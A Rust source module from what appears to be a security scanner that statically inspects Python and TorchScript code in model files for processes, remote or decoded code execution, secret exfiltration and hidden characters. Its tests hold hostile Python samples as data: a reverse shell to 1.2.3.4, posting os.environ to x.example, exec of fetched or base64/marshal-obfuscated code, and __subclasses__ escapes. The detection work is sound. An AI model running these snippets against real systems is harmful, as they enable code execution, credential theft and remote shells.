//! Python source: what a module does when it is imported or used, told without running it.
//!
//! A tolerant tokenizer and parser feed an analysis that follows names, texts and taint. What is
//! reported is what acts on the machine: processes, code out of the network or out of decoded
//! texts, secrets that are sent away, hooks; not what every model does.

mod effects;
mod flow;
mod lex;
#[cfg(test)]
mod list_tests;
mod parse;
mod weigh;

use effects::Effect;
use flow::Flow;

use crate::fact::{CodeKind, is_invisible};
use crate::finding::Severity;
use crate::policy::{LOOK, Opinion, REFUSE};

/// How deep code inside texts is followed.
const INNER_MAX: usize = 3;

/// Takes Python's escapes out of the inside of a string literal.
pub fn unescape(text: &str) -> String {
    crate::pickle::unescape(text)
}

/// Whether a text reads as Python source rather than as prose or data.
pub fn looks_like_python(text: &str) -> bool {
    let mut score = 0_i32;
    for line in text.lines().take(200) {
        let trimmed = line.trim();
        let word = trimmed.split(|c: char| !c.is_alphanumeric() && c != '_').next().unwrap_or("");
        score += match word {
            "import"
                if trimmed.split(' ').count() == 2
                    || trimmed.contains(" as ")
                    || trimmed.contains(',') =>
            {
                2
            }
            "from" if trimmed.contains(" import ") => 3,
            "def" | "class" if trimmed.ends_with(':') || trimmed.contains('(') => 3,
            "elif" | "except" | "try" | "else" | "if" | "for" | "while" | "with"
                if trimmed.ends_with(':') =>
            {
                1
            }
            "return" | "self" | "print" | "exec" | "eval" | "lambda" | "raise" => 1,
            _ if trimmed.starts_with('@') && !trimmed.contains(' ') => 1,
            _ if trimmed.starts_with(['{', '<', '[']) => -2,
            _ => 0,
        };
        if trimmed.ends_with(';') && !trimmed.contains("import") {
            score -= 1;
        }
    }
    score >= 3
}

/// Judges source.
pub fn judge(kind: CodeKind, text: &str) -> Vec<Opinion> {
    if kind == CodeKind::TorchScript {
        return torchscript(text);
    }
    let mut out = Vec::new();
    hidden(text, &mut out);
    source(kind, text, 0, &mut out);
    if kind == CodeKind::Cell {
        // A notebook installs and downloads in the open; only what no notebook needs counts.
        out.retain(|opinion| opinion.severity == Severity::High);
    }
    out.sort_by_key(|opinion| std::cmp::Reverse(opinion.severity));
    out.truncate(20);
    out
}

fn hidden(text: &str, out: &mut Vec<Opinion>) {
    let turned =
        text.chars().filter(|c| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'));
    let tags = text.chars().filter(|c| is_invisible(*c) && *c > '\u{e0000}');
    let count = turned.count() + tags.count();
    if count > 0 {
        out.push(Opinion::new(
            "code.hidden_text",
            Severity::Medium,
            "The code holds characters that make it look like other code to people.",
            format!("{count} such characters"),
            LOOK,
        ));
    }
}

fn source(kind: CodeKind, text: &str, depth: usize, out: &mut Vec<Opinion>) {
    let (lines, whole) = lex::lines(text);
    let flow = Flow::of(&lines);
    if !whole {
        out.push(Opinion::new(
            "read.incomplete",
            Severity::Unknown,
            "The code is longer than what is analysed.",
            "",
            crate::policy::UNREAD,
        ));
    }
    for act in &flow.acts {
        out.extend(weigh::opinion(kind, act, depth > 0));
        let runs = act.effect == Effect::Code && depth < INNER_MAX;
        for inner in act.texts.iter().filter(|text| runs && text.contains(['(', '\n'])) {
            source(CodeKind::Evaluated, inner, depth + 1, out);
        }
    }
    if let Some((name, line)) = flow.insides.first() {
        let chain = flow.insides.iter().any(|(name, _)| name == "__subclasses__");
        let severity = if chain { Severity::High } else { Severity::Note };
        out.push(Opinion::new(
            "code.insides",
            severity,
            "The code reaches through Python's insides for something that it does not import.",
            format!("line {line}: {name}"),
            if chain { REFUSE } else { LOOK },
        ));
    }
}

/// TorchScript knows no imports; what it may do are operators that touch files or load code.
fn torchscript(text: &str) -> Vec<Opinion> {
    const OPERATORS: &[(&str, Severity, &str)] = &[
        ("from_file(", Severity::High, "reads a file into a tensor"),
        ("image.read_file(", Severity::High, "reads files"),
        ("image.write_file(", Severity::High, "writes files"),
        ("load_library(", Severity::High, "loads native code"),
        ("ops.prim.CallPython", Severity::High, "calls Python code"),
        ("__torch__.torch.classes.", Severity::Note, "uses native classes"),
        ("annotate(Any, os.", Severity::High, "uses the system"),
    ];
    OPERATORS
        .iter()
        .filter(|(marker, ..)| text.contains(marker))
        .map(|(marker, severity, what)| {
            let line = text.lines().find(|line| line.contains(marker)).unwrap_or_default();
            let reason = format!("The TorchScript code {what}.");
            Opinion::new("code.torchscript", *severity, reason, line.trim(), LOOK)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn severity(text: &str) -> Option<Severity> {
        judge(CodeKind::Module, text).first().map(|opinion| opinion.severity)
    }

    fn flagged(text: &str) -> bool {
        severity(text).is_some_and(|severity| severity >= Severity::Medium)
    }

    #[test]
    fn attacks_are_found_however_they_are_spelt() {
        for text in [
            "import os\nos.system('id')\n",
            "from os import system as s\ns('id')\n",
            "import subprocess as sp\nclass M:\n  def __init__(self):\n    sp.Popen(['sh', '-c', 'id'])\n",
            "__import__('o' + 's').system('id')\n",
            "getattr(__import__('os'), 'sys' 'tem')('id')\n",
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
            "import urllib.request as u\nexec(u.urlopen('http://x.example/p').read())\n",
            "import requests\ndef f():\n  return requests.get('http://x.example').text\nexec(f())\n",
            "import os, requests\nrequests.post('http://x.example', data=dict(os.environ))\n",
            "import sys\nsys.modules['os'].popen('id')\n",
            "e = eval\ne(\"__import__('os').system('id')\")\n",
            "globals()['__builtins__'].__dict__['exec']('import os; os.system(1)')\n",
            "().__class__.__bases__[0].__subclasses__()\n",
            "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n",
            "open('/home/ann/.bashrc', 'a').write('evil')\n",
            "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n",
            "from somewhere.else_ import drop\ndrop('.')\n",
            "def run(code):\n    exec(code)\nimport base64\nrun(base64.b64decode('eA=='))\n",
            "import socket, os, pty\ns = socket.socket()\ns.connect(('1.2.3.4', 1))\npty.spawn('sh')\n",
        ] {
            assert!(flagged(text), "{text}");
        }
    }

    #[test]
    fn what_models_do_is_not() {
        for text in [
            "import torch\nfrom torch import nn\nclass M(nn.Module):\n  def forward(self, x):\n    return x.eval()\n",
            "import os\npath = os.path.join('a', 'b')\nos.environ['TOKENIZERS_PARALLELISM'] = '0'\n",
            "import json\ndef load(p):\n  with open(p, encoding='utf-8') as f:\n    return json.load(f)\n",
            "from transformers import AutoConfig\nfrom .configuration_x import XConfig\nAutoConfig.register('x', XConfig)\n",
            "import importlib\nif importlib.util.find_spec('flash_attn'):\n  import flash_attn\n",
            "def handle(data, context):\n    # os.system('no')\n    marker = 'subprocess.Popen in a text'\n    return marker\n",
            "import requests\nfrom PIL import Image\ndef load(u):\n  return Image.open(requests.get(u, stream=True).raw)\n",
            "import logging\nlogger = logging.getLogger(__name__)\nlogger.warning('x')\n",
            "import re\np = re.compile('x')\nmodel.eval()\n",
            "from einops import rearrange\nx = rearrange(1, 'a b')\n",
        ] {
            assert!(!flagged(text), "{text}: {:?}", judge(CodeKind::Module, text));
        }
    }

    #[test]
    fn deep_and_long_code_ends() {
        for text in [
            format!("f{}(", "()".repeat(150)).repeat(100),
            format!("x{}[", "[0]".repeat(150)).repeat(100) + "] = 1",
            "f'{f\"{".repeat(500),
            "lambda: f(".repeat(2_000),
            "def f():\n".repeat(3_000),
            "a = partial(a, a)\n".repeat(500),
            "a = [a, a]\n".repeat(2_000),
            "a += a\n".repeat(2_000),
        ] {
            judge(CodeKind::Module, &text);
        }
    }

    #[test]
    fn python_is_told_from_prose() {
        assert!(looks_like_python("import os\ndef f(x):\n  return x\n"));
        assert!(looks_like_python("\"\"\"Doc.\"\"\"\nfrom a.b import c\n\nc('.')\n"));
        assert!(!looks_like_python("This is a text.\nFor people to read.\nIf they want.\n"));
    }
}
